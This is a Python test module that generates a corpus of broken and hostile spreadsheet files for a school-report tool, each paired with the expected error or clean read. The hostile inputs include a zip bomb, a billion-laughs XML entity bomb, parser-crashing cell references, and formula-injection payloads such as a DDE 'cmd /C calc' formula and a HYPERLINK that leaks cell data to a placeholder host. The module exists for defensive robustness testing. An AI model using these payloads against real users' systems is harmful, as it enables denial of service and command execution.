"""The corpus of broken and hostile inputs, generated (never hand-made), each with what must happen.

Every case is a function writing one file into a folder, plus the expected outcome when the file
is checked: an error of a given type whose message contains some words, findings of given rules,
or a clean read. ``python tests/hostile/corpus.py DIR`` writes the whole corpus for a look.
The table in ``docs/hostile-inputs.md`` lists the same cases and what a user sees.
"""

from __future__ import annotations

import copy
import io
import re
import shutil
import struct
import sys
import tempfile
import unicodedata
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import openpyxl

if not __package__:  # run as a script (python tests/hostile/corpus.py): find tests/support.py
    sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

from outreach_xl.core.model import SchoolData
from outreach_xl.demo.sample import my_an_2020
from outreach_xl.vba.cfb import Storage, write_compound_file
from outreach_xl.xlsx.builder import build_workbook
from support import soffice_convert

GENERAL_PART = "xl/worksheets/sheet2.xml"  # Thông tin chung
CONTENT_PART = "xl/worksheets/sheet3.xml"  # Nội dung
RESULTS_PART = "xl/worksheets/sheet5.xml"  # Kết quả
META_PART = "xl/worksheets/sheet8.xml"  # Thông tin mẫu
SHARED_PART = "xl/sharedStrings.xml"


@dataclass(frozen=True)
class Expect:
    """What checking the file must give: an error (type name, words) or findings (rules) or ok."""

    error: str | None = None
    words: tuple[str, ...] = ()
    rules: frozenset[str] = frozenset()
    needs_soffice: bool = False


@dataclass(frozen=True)
class Case:
    name: str
    file_name: str
    make: Callable[[Path], None]
    expect: Expect
    note: str = ""  # what the user sees, for docs/hostile-inputs.md
    tags: frozenset[str] = field(default_factory=frozenset)


def sample_bytes(data: SchoolData | None = None) -> bytes:
    return build_workbook(data=data or my_an_2020())


def _with(**values: object) -> SchoolData:
    base = my_an_2020()
    return SchoolData({**base.values, **values}, copy.deepcopy(dict(base.tables)))


def rewrite(data: bytes, changes: dict[str, Callable[[bytes], bytes]]) -> bytes:
    """A copy of a zip with some parts changed, the rest copied as they are."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            body = src.read(info)
            if info.filename in changes:
                body = changes[info.filename](body)
            dst.writestr(info, body, compress_type=zipfile.ZIP_DEFLATED)
    return out.getvalue()


def _openpyxl_edit(target: Path, change: Callable[[openpyxl.Workbook], None]) -> None:
    """A user's edit in another program, on a copy of the sample."""
    book = openpyxl.load_workbook(io.BytesIO(sample_bytes()))
    change(book)
    book.save(target)


def _cell_value(xml: bytes, ref: str, new: bytes) -> bytes:
    """Replace the whole <c> element of one cell in a sheet part."""
    pattern = re.compile(rb'<c r="' + ref.encode() + rb'"[^>]*?(?:/>|>.*?</c>)')
    assert pattern.search(xml), ref
    return pattern.sub(new, xml, count=1)


# --- The makers -----------------------------------------------------------------------------------


def not_a_zip(path: Path) -> None:
    path.write_text("Kính gửi Phòng GD&ĐT, trường gửi báo cáo.", encoding="utf-8")


def truncated(path: Path) -> None:
    data = sample_bytes()
    path.write_bytes(data[: len(data) * 2 // 3])


def old_xls(path: Path) -> None:
    """An OLE2 compound file with a BIFF 'Workbook' stream, the shape of every .xls."""
    bof = b"\x09\x08\x10\x00\x00\x06\x05\x00" + b"\0" * 12
    path.write_bytes(write_compound_file(Storage(streams={"Workbook": bof + b"\0" * 5000})))


def password_protected(path: Path) -> None:
    """Office's encrypted package: an OLE2 file with EncryptionInfo and EncryptedPackage."""
    info = b"\x04\x00\x04\x00\x40\x00\x00\x00" + b"<encryption/>"
    streams = {"EncryptionInfo": info, "EncryptedPackage": b"\x17" * 9000}
    path.write_bytes(write_compound_file(Storage(streams=streams)))


def ods(path: Path) -> None:
    """The sample saved by LibreOffice Calc as .ods."""
    with tempfile.TemporaryDirectory() as tmp:
        src = Path(tmp) / f"{path.stem}.xlsx"
        src.write_bytes(sample_bytes())
        shutil.copyfile(soffice_convert(src, "ods", Path(tmp)), path)


def xls(path: Path) -> None:
    """The sample saved by LibreOffice Calc as .xls (Excel 97-2003), as an older Office saves it."""
    with tempfile.TemporaryDirectory() as tmp:
        src = Path(tmp) / f"{path.stem}.xlsx"
        src.write_bytes(sample_bytes())
        shutil.copyfile(soffice_convert(src, "xls", Path(tmp)), path)


def other_template(path: Path) -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = "Chấm công"
    sheet.append(["Họ và tên", "Số ngày công"])
    sheet.append(["Nguyễn Văn A", 22])
    book.save(path)


def sheet_renamed(path: Path) -> None:
    _openpyxl_edit(path, lambda b: setattr(b["Kết quả"], "title", "Ket qua"))


def sheet_deleted(path: Path) -> None:
    _openpyxl_edit(path, lambda b: b.remove(b["Hình thức"]))


def sheet_hidden(path: Path) -> None:
    _openpyxl_edit(path, lambda b: setattr(b["Nội dung"], "sheet_state", "hidden"))


def table_deleted(path: Path) -> None:
    def clear(book: openpyxl.Workbook) -> None:
        sheet = book["Kết quả"]
        for name in list(sheet.tables):
            del sheet.tables[name]
        sheet.delete_rows(9, sheet.max_row)

    _openpyxl_edit(path, clear)


def key_column_deleted(path: Path) -> None:
    _openpyxl_edit(path, lambda b: b["Thông tin chung"].delete_cols(1))


def text_in_numbers(path: Path) -> None:
    path.write_bytes(sample_bytes(_with(staff_total="hai mươi mốt", sessions="2 lần")))


def negative_numbers(path: Path) -> None:
    path.write_bytes(sample_bytes(_with(sessions=-2, pupil_participants=-170)))


def dates_as_text(path: Path) -> None:
    data = _with(report_date="29/12/2020", request_date="2020-01-07")
    path.write_bytes(sample_bytes(data))


def dates_as_other_text(path: Path) -> None:
    path.write_bytes(sample_bytes(_with(report_date="29.12.2020", request_date="7-1-2020")))


def formula_errors(path: Path) -> None:
    error = b'<c r="C22" t="e"><f>#REF!+1</f><v>#REF!</v></c>'  # staff_total
    name_error = b'<c r="C14" t="e"><f>FOO()</f><v>#NAME?</v></c>'  # place
    data = rewrite(
        sample_bytes(),
        {GENERAL_PART: lambda x: _cell_value(_cell_value(x, "C22", error), "C14", name_error)},
    )
    path.write_bytes(data)


def merged_over_inputs(path: Path) -> None:
    _openpyxl_edit(path, lambda b: b["Thông tin chung"].merge_cells("B4:C4"))


def megabyte_text(path: Path) -> None:
    """A 1 MB text cell, written into the XML (Excel and openpyxl cut text at 32,767 chars)."""
    text = ("Nhà trường triển khai kế hoạch. " * 33000).encode("utf-8")
    cell = b'<c r="C4" t="inlineStr"><is><t>' + text + b"</t></is></c>"
    data = rewrite(sample_bytes(), {CONTENT_PART: lambda x: _cell_value(x, "C4", cell)})
    path.write_bytes(data)


def hundred_thousand_rows(path: Path) -> None:
    rows = b"".join(
        b'<row r="%d"><c r="B%d" t="inlineStr"><is><t>Ket qua %d</t></is></c></row>' % (n, n, n)
        for n in range(20, 100_020)
    )

    def grow(xml: bytes) -> bytes:
        xml = re.sub(rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1:D100019"/>', xml)
        return xml.replace(b"</sheetData>", rows + b"</sheetData>", 1)

    path.write_bytes(rewrite(sample_bytes(), {RESULTS_PART: grow}))


def zip_bomb(path: Path) -> None:
    data = sample_bytes()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(path, "w") as dst:
        for info in src.infolist():
            dst.writestr(info, src.read(info), compress_type=zipfile.ZIP_DEFLATED)
        padding = zipfile.ZipInfo("xl/media/padding.bin")
        padding.compress_type = zipfile.ZIP_DEFLATED
        with dst.open(padding, "w", force_zip64=True) as big:
            chunk = b"\0" * (1024 * 1024)
            for _ in range(1100):  # 1.1 GB of zeros, about 1 MB packed
                big.write(chunk)


def entity_bomb(path: Path) -> None:
    lol = (
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        + b"".join(
            b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
            for i in range(1, 10)
        )
        + b"]>"
    )

    def inject(xml: bytes) -> bytes:
        body = xml.split(b"?>", 1)[1]
        body = body.replace(b"<v>21</v>", b"<v>&lol9;</v>", 1)
        return lol + body

    path.write_bytes(rewrite(sample_bytes(), {GENERAL_PART: inject}))


def formula_injection(path: Path) -> None:
    data = my_an_2020()
    tables = copy.deepcopy(dict(data.tables))
    tables["results"] = [
        {"text": '=HYPERLINK("http://example.invalid/?"&A1,"Bấm vào đây")'},
        {"text": "+84 đã gọi điện cho phụ huynh"},
        {"text": "-  Tổ chức 2 buổi tuyên truyền"},
        {"text": "@SUM(1+1)"},
    ]
    values = {
        **data.values,
        "signer_name": "=cmd|' /C calc'!A0",
        "school_name": '=HYPERLINK("http://example.invalid","Trường")',
        "school_code": "@80512199",
        "commune": "+Mỹ An",
    }
    path.write_bytes(sample_bytes(SchoolData(values, tables)))


def reserved_names(path: Path) -> None:
    path.write_bytes(sample_bytes(_with(doc_symbol="BC-CON")))


def nfd_text(path: Path) -> None:
    """Everything decomposed, sheet names included, as some Mac programs write."""

    def decompose(xml: bytes) -> bytes:
        return unicodedata.normalize("NFD", xml.decode("utf-8")).encode("utf-8")

    parts = ["xl/sharedStrings.xml", "xl/workbook.xml"]
    path.write_bytes(rewrite(sample_bytes(), dict.fromkeys(parts, decompose)))


def lock_file(path: Path) -> None:
    path.write_bytes(b"\x0bNguyen Van A" + b"\0" * 150)


# --- Native aborts, memory, time, arithmetic (issue 10) -------------------------------------------


def _add_row(ref: str, cell: bytes) -> Callable[[bytes], bytes]:
    """A sheet change adding one row holding one cell at ``ref``, at the end of the data."""
    row = re.sub(r"[A-Z]", "", ref).encode()

    def add(xml: bytes) -> bytes:
        return xml.replace(
            b"</sheetData>", b'<row r="' + row + b'">' + cell + b"</row></sheetData>"
        )

    return add


def value_at_last_cell(path: Path) -> None:
    """A value in Excel's very last cell: calamine asked for a 16,384 x 1,048,576 grid (SIGABRT)."""
    cell = b'<c r="XFD1048576"><v>1</v></c>'
    path.write_bytes(rewrite(sample_bytes(), {RESULTS_PART: _add_row("XFD1048576", cell)}))


def value_beyond_last_row(path: Path) -> None:
    """A reference past any sheet (row 99,999,999,999): the same abort."""
    cell = b'<c r="C99999999999"><v>1</v></c>'
    path.write_bytes(rewrite(sample_bytes(), {RESULTS_PART: _add_row("C99999999999", cell)}))


def _unique_count(count: int) -> Callable[[bytes], bytes]:
    def change(xml: bytes) -> bytes:
        return re.sub(rb'uniqueCount="\d+"', b'uniqueCount="%d"' % count, xml, count=1)

    return change


def shared_strings_count_2_32(path: Path) -> None:
    """uniqueCount 2**32-1: calamine reserved room for 4 billion strings (SIGABRT)."""
    path.write_bytes(rewrite(sample_bytes(), {SHARED_PART: _unique_count(2**32 - 1)}))


def shared_strings_count_2_64(path: Path) -> None:
    """uniqueCount 2**64-1: a Rust panic (capacity overflow) with a Python traceback."""
    path.write_bytes(rewrite(sample_bytes(), {SHARED_PART: _unique_count(2**64 - 1)}))


def stray_far_cell(path: Path) -> None:
    """One stray value at XFD4999: read at 3.1 GB before (a 16,384-column grid)."""
    cell = b'<c r="XFD4999" t="inlineStr"><is><t>x</t></is></c>'
    path.write_bytes(rewrite(sample_bytes(), {RESULTS_PART: _add_row("XFD4999", cell)}))


def underdeclared_zip(path: Path) -> None:
    """A part whose zip headers declare 1 KB while it inflates to 600 MB (2.1 GB in memory before:
    Python's zipfile inflated up to 2 GB per read call before cutting to the declared size)."""
    data = sample_bytes()
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            body = src.read(info)
            if info.filename != RESULTS_PART:
                dst.writestr(info, body, compress_type=zipfile.ZIP_DEFLATED)
                continue
            big = zipfile.ZipInfo(info.filename, info.date_time)
            big.compress_type = zipfile.ZIP_DEFLATED
            with dst.open(big, "w") as part:
                part.write(body)
                spaces = b" " * (1024 * 1024)
                for _ in range(600):
                    part.write(spaces)
    raw = bytearray(out.getvalue())
    _declare_size(raw, RESULTS_PART, 1024)
    path.write_bytes(bytes(raw))


def _declare_size(raw: bytearray, name: str, size: int) -> None:
    """Rewrite the uncompressed size of one part in its local header and central directory."""
    with zipfile.ZipFile(io.BytesIO(bytes(raw))) as archive:
        offset = archive.getinfo(name).header_offset
    struct.pack_into("<I", raw, offset + 22, size)
    encoded = name.encode()
    pos = raw.find(b"PK\x01\x02")
    while pos >= 0:
        length = struct.unpack_from("<H", raw, pos + 28)[0]
        if raw[pos + 46 : pos + 46 + length] == encoded:
            struct.pack_into("<I", raw, pos + 24, size)
        pos = raw.find(b"PK\x01\x02", pos + 4)


def error_cells_without_value(path: Path) -> None:
    """3,000 formula error cells without a cached value: the old error-cell pattern backtracked
    quadratically (over 30 s for a 75 KB file)."""
    cells = b"".join(b'<c r="F%d" t="e"><f>1/0</f></c>' % n for n in range(30, 3030))

    def add(xml: bytes) -> bytes:
        return xml.replace(b"</sheetData>", b'<row r="30">' + cells + b"</row></sheetData>", 1)

    path.write_bytes(rewrite(sample_bytes(), {RESULTS_PART: add}))


def five_thousand_digits(path: Path) -> None:
    """A figure typed as 5,000 digits: past Python's int-from-text limit (ValueError, exit 3)."""
    path.write_bytes(sample_bytes(_with(staff_total="1" * 5000)))


def texts_that_backtrack(path: Path) -> None:
    """Texts shaped to make a backtracking pattern run for ever: a count followed by thousands of
    words and a digit, a written-out date followed by thousands of spaces and a letter."""
    path.write_bytes(
        sample_bytes(
            _with(
                staff_total="1 " + "ab " * 3000 + "1",
                report_date="ngày 1 tháng 1" + " " * 5000 + "x",
                request_date="1" + " " * 5000 + "tháng 1 năm 2020x",
            )
        )
    )


def figures_of_1e400(path: Path) -> None:
    """Figures of 10**400 typed as text, in a school of its own so they reach the roll-up's rates
    (float overflow) and XlsxWriter's write_number."""
    data = _with(
        school_code="80599999",
        staff_total="1" + "0" * 400,
        staff_participants="1" + "0" * 399,
        pupil_total=10**20,
    )
    path.write_bytes(sample_bytes(data))


def _template_version(value: bytes) -> Callable[[bytes], bytes]:
    def change(xml: bytes) -> bytes:
        old = b'<c r="B2"><v>1</v></c>'
        assert old in xml
        return xml.replace(old, b'<c r="B2"><v>' + value + b"</v></c>", 1)

    return change


def template_version_nan(path: Path) -> None:
    path.write_bytes(rewrite(sample_bytes(), {META_PART: _template_version(b"NaN")}))


def template_version_inf(path: Path) -> None:
    path.write_bytes(rewrite(sample_bytes(), {META_PART: _template_version(b"INF")}))


def long_school_name(path: Path) -> None:
    """A school name of 300 characters: python-docx refuses core properties over 255."""
    name = "Trường Mẫu giáo " + "Mỹ An " * 48
    path.write_bytes(sample_bytes(_with(school_name=name.strip())))


def _single_quoted(xml: bytes) -> bytes:
    return re.sub(rb'<c r="([A-Z]+[0-9]+)"', rb"<c r='\1'", xml)


def cells_written_otherwise(path: Path) -> None:
    """Valid XML the guard does not vouch for (single-quoted cell references): read in a child
    process with bounded memory and time."""
    parts = [GENERAL_PART, CONTENT_PART, RESULTS_PART]
    path.write_bytes(rewrite(sample_bytes(), dict.fromkeys(parts, _single_quoted)))


def abort_written_otherwise(path: Path) -> None:
    """The last-cell abort written with single quotes: the child reading it dies, not the caller."""
    cell = b"<c r='XFD1048576'><v>1</v></c>"
    change = _add_row("XFD1048576", cell)
    path.write_bytes(rewrite(sample_bytes(), {RESULTS_PART: lambda x: change(_single_quoted(x))}))


def own_rollup(path: Path) -> None:
    """A roll-up written by ``outreach-xl rollup`` into the schools' folder."""
    from outreach_xl.files.folder import rollup_folder
    from outreach_xl.xlsx.rollup_workbook import write_rollup

    with tempfile.TemporaryDirectory() as tmp:
        folder = Path(tmp) / "schools"
        folder.mkdir()
        (folder / "school.xlsx").write_bytes(sample_bytes())
        write_rollup(rollup_folder(folder, workers=1), Path(tmp) / "out.xlsx")
        shutil.copyfile(Path(tmp) / "out.xlsx", path)


OK = Expect()
CASES: tuple[Case, ...] = (
    Case(
        "not_a_zip",
        "bao-cao.xlsx",
        not_a_zip,
        Expect("UnreadableFile", ("không phải là bảng tính",)),
        "Tệp không phải là bảng tính Excel; gửi đúng tệp báo cáo.",
    ),
    Case(
        "truncated_zip",
        "tai-chua-xong.xlsx",
        truncated,
        Expect("UnreadableFile", ("hỏng", "gửi lại")),
        "Tệp bị hỏng hoặc không đầy đủ; nhờ người gửi gửi lại.",
    ),
    Case(
        "old_xls",
        "bao-cao-cu.xls",
        old_xls,
        Expect("NotOurWorkbook", ("outreach-xl new",)),
        "Bảng tính Excel cũ (.xls) trống, đọc được (trong tiến trình riêng) nhưng không phải mẫu.",
    ),
    Case(
        "xls",
        "BaoCao_TTDN_2020_MGMA.xls",
        xls,
        Expect(needs_soffice=True),
        "Đọc bình thường (mẫu của chương trình lưu lại dạng .xls cho Excel 97-2003).",
    ),
    Case(
        "ods",
        "bao-cao.ods",
        ods,
        Expect(needs_soffice=True),
        "Đọc bình thường (mẫu của chương trình lưu lại bằng LibreOffice dạng .ods).",
    ),
    Case(
        "password_protected",
        "co-mat-khau.xlsx",
        password_protected,
        Expect("UnreadableFile", ("mật khẩu",)),
        "Tệp đặt mật khẩu; xóa mật khẩu trong Excel rồi gửi lại.",
    ),
    Case(
        "other_template",
        "cham-cong.xlsx",
        other_template,
        Expect("NotOurWorkbook", ("outreach-xl new",)),
        "Không phải mẫu của outreach-xl; dùng tệp tạo bằng «outreach-xl new».",
    ),
    Case(
        "sheet_renamed",
        "doi-ten-trang.xlsx",
        sheet_renamed,
        Expect("MissingPart", ("Kết quả", "Đặt lại tên")),
        "Thiếu trang «Kết quả»; đặt lại tên trang.",
    ),
    Case(
        "sheet_deleted",
        "xoa-trang.xlsx",
        sheet_deleted,
        Expect("MissingPart", ("Hình thức",)),
        "Thiếu trang «Hình thức»; chép số liệu sang mẫu mới.",
    ),
    Case(
        "sheet_hidden",
        "an-trang.xlsx",
        sheet_hidden,
        OK,
        "Đọc bình thường (trang ẩn vẫn được đọc).",
    ),
    Case(
        "table_deleted",
        "xoa-bang.xlsx",
        table_deleted,
        Expect("MissingPart", ("Kết quả đạt được",)),
        "Không tìm thấy bảng «Kết quả đạt được»; chép số liệu sang mẫu mới.",
    ),
    Case(
        "key_column_deleted",
        "xoa-cot-a.xlsx",
        key_column_deleted,
        Expect("MissingPart", ("Cơ quan chủ quản", "cột A")),
        "Không tìm thấy dòng «Cơ quan chủ quản» (cột A bị xóa); chép sang mẫu mới.",
    ),
    Case(
        "text_in_numbers",
        "chu-trong-o-so.xlsx",
        text_in_numbers,
        Expect(rules=frozenset({"type"})),
        "Lỗi «Không phải số nguyên» ở từng ô, kèm giá trị và cách sửa.",
    ),
    Case(
        "negative_numbers",
        "so-am.xlsx",
        negative_numbers,
        Expect(rules=frozenset({"bounds"})),
        "Lỗi «Số phải từ 0 trở lên» ở từng ô.",
    ),
    Case(
        "dates_as_text",
        "ngay-dang-chu.xlsx",
        dates_as_text,
        OK,
        "Đọc bình thường: 29/12/2020 và 2020-01-07 gõ dạng chữ được hiểu là ngày.",
    ),
    Case(
        "dates_as_other_text",
        "ngay-dang-chu-2.xlsx",
        dates_as_other_text,
        OK,
        "Đọc bình thường: 29.12.2020 và 7-1-2020 được hiểu là ngày.",
    ),
    Case(
        "formula_errors",
        "loi-cong-thuc.xlsx",
        formula_errors,
        Expect(rules=frozenset({"formula_error"})),
        "Lỗi «Ô đang báo lỗi công thức của Excel» (#REF!, #NAME?) ở đúng ô.",
    ),
    Case(
        "merged_over_inputs",
        "gop-o.xlsx",
        merged_over_inputs,
        Expect(rules=frozenset({"required"})),
        "Lỗi «Chưa điền» ở ô nhập đã bị gộp mất giá trị.",
    ),
    Case(
        "megabyte_text",
        "o-qua-dai.xlsx",
        megabyte_text,
        Expect(rules=frozenset({"too_long"})),
        "Lỗi «Nội dung quá dài (1.056.000 ký tự, tối đa 32.767)».",
    ),
    Case(
        "hundred_thousand_rows",
        "100-nghin-dong.xlsx",
        hundred_thousand_rows,
        Expect("InputTooLarge", ("quá nhiều dòng",)),
        "Trang có quá nhiều dòng; xóa các dòng thừa.",
    ),
    Case(
        "zip_bomb",
        "bom-nen.xlsx",
        zip_bomb,
        Expect("InputTooLarge", ("giải nén ra quá lớn",)),
        "Tệp giải nén ra quá lớn, có thể độc hại; không mở, đề nghị gửi lại.",
        frozenset({"slow"}),
    ),
    Case(
        "entity_bomb",
        "bom-xml.xlsx",
        entity_bomb,
        Expect("InputTooLarge", ("DOCTYPE",)),
        "Cấu trúc XML bất thường (DOCTYPE/ENTITY), có thể độc hại; không mở.",
    ),
    Case(
        "formula_injection",
        "cong-thuc-doc.xlsx",
        formula_injection,
        OK,
        "Đọc bình thường; chữ bắt đầu bằng = + - @ luôn được giữ là chữ, không thành công thức.",
    ),
    Case(
        "reserved_names",
        "CON.xlsx",
        reserved_names,
        OK,
        "Đọc bình thường; tên tệp báo cáo tự đặt không dùng tên cấm của Windows.",
    ),
    Case(
        "nfd_text",
        "chu-to-hop.xlsx",
        nfd_text,
        OK,
        "Đọc bình thường; chữ Việt dạng tổ hợp (NFD) được chuẩn hóa về dạng dựng sẵn (NFC).",
    ),
    Case(
        "office_lock_file",
        "~$bao-cao.xlsx",
        lock_file,
        Expect("UnreadableFile", ("tệp khóa",)),
        "Tệp khóa tạm của Office, không phải báo cáo (bỏ qua khi tổng hợp).",
    ),
    Case(
        "value_at_last_cell",
        "o-cuoi-cung.xlsx",
        value_at_last_cell,
        Expect("InputTooLarge", ("quá nhiều dòng", "XFD1048576")),
        "Trang có quá nhiều dòng (có giá trị ở ô XFD1048576); xóa các dòng thừa.",
    ),
    Case(
        "value_beyond_last_row",
        "dong-qua-xa.xlsx",
        value_beyond_last_row,
        Expect("InputTooLarge", ("quá nhiều dòng", "C99999999999")),
        "Trang có quá nhiều dòng (có giá trị ở ô C99999999999); xóa các dòng thừa.",
    ),
    Case(
        "shared_strings_count_2_32",
        "dem-chuoi-2-32.xlsx",
        shared_strings_count_2_32,
        OK,
        "Đọc bình thường (số chuỗi khai báo sai bị bỏ qua).",
    ),
    Case(
        "shared_strings_count_2_64",
        "dem-chuoi-2-64.xlsx",
        shared_strings_count_2_64,
        OK,
        "Đọc bình thường (số chuỗi khai báo sai bị bỏ qua).",
    ),
    Case(
        "stray_far_cell",
        "o-lac-XFD4999.xlsx",
        stray_far_cell,
        OK,
        "Đọc bình thường; ô lạc ở cột XFD (ngoài 64 cột đầu) không được đọc.",
    ),
    Case(
        "underdeclared_zip",
        "khai-sai-kich-thuoc.xlsx",
        underdeclared_zip,
        Expect("UnreadableFile", ("hỏng",)),
        "Tệp bị hỏng (một phần giải nén ra lớn hơn khai báo); nhờ người gửi gửi lại.",
        frozenset({"slow"}),
    ),
    Case(
        "error_cells_without_value",
        "3000-o-loi.xlsx",
        error_cells_without_value,
        OK,
        "Đọc bình thường, dưới 2 giây (ô lỗi công thức không có giá trị là ô trống).",
    ),
    Case(
        "five_thousand_digits",
        "5000-chu-so.xlsx",
        five_thousand_digits,
        Expect(rules=frozenset({"bounds"})),
        "Lỗi «Số quá lớn (tối đa 100000)» ở đúng ô.",
    ),
    Case(
        "texts_that_backtrack",
        "chu-dai-bay.xlsx",
        texts_that_backtrack,
        Expect(rules=frozenset({"type"})),
        "Lỗi «Không phải số nguyên», «Không phải ngày hợp lệ» ở đúng ô, đọc trong chưa tới 1 giây.",
    ),
    Case(
        "figures_of_1e400",
        "so-1e400.xlsx",
        figures_of_1e400,
        Expect(rules=frozenset({"bounds"})),
        "Lỗi «Số quá lớn» ở từng ô; không vào phép tính của bảng tổng hợp.",
    ),
    Case(
        "template_version_nan",
        "phien-ban-nan.xlsx",
        template_version_nan,
        Expect("UnsupportedTemplate", ("phiên bản mẫu",)),
        "Không xác định được phiên bản mẫu; dùng tệp tạo bằng «outreach-xl new».",
    ),
    Case(
        "template_version_inf",
        "phien-ban-inf.xlsx",
        template_version_inf,
        Expect("UnsupportedTemplate", ("phiên bản mẫu",)),
        "Không xác định được phiên bản mẫu; dùng tệp tạo bằng «outreach-xl new».",
    ),
    Case(
        "long_school_name",
        "ten-truong-dai.xlsx",
        long_school_name,
        OK,
        "Đọc bình thường; thuộc tính tiêu đề của tệp Word được cắt còn 255 ký tự.",
    ),
    Case(
        "cells_written_otherwise",
        "o-viet-khac.xlsx",
        cells_written_otherwise,
        OK,
        "Đọc bình thường (đọc trong tiến trình riêng, giới hạn bộ nhớ và thời gian).",
    ),
    Case(
        "abort_written_otherwise",
        "o-cuoi-viet-khac.xlsx",
        abort_written_otherwise,
        Expect("UnreadableFile", ("bị dừng đột ngột",)),
        "Không đọc được (chương trình đọc bị dừng đột ngột); chỉ tiến trình riêng bị dừng.",
    ),
    Case(
        "own_rollup",
        "tong-hop-cu.xlsx",
        own_rollup,
        Expect("OwnOutput", ("kết quả tổng hợp",)),
        "Tệp kết quả tổng hợp do outreach-xl tạo (bỏ qua khi tổng hợp).",
    ),
)


def write_corpus(folder: Path, *, with_soffice: bool | None = None) -> dict[str, Path]:
    """Write every case into ``folder``; cases needing LibreOffice are skipped without it."""
    if with_soffice is None:
        with_soffice = shutil.which("soffice") is not None
    folder.mkdir(parents=True, exist_ok=True)
    written = {}
    for case in CASES:
        if case.expect.needs_soffice and not with_soffice:
            continue
        path = folder / case.file_name
        case.make(path)
        written[case.name] = path
    return written


if __name__ == "__main__":
    target = Path(sys.argv[1] if len(sys.argv) > 1 else "hostile-corpus")
    for name, path in write_corpus(target).items():
        print(f"{name:24} {path} ({path.stat().st_size:,} bytes)")
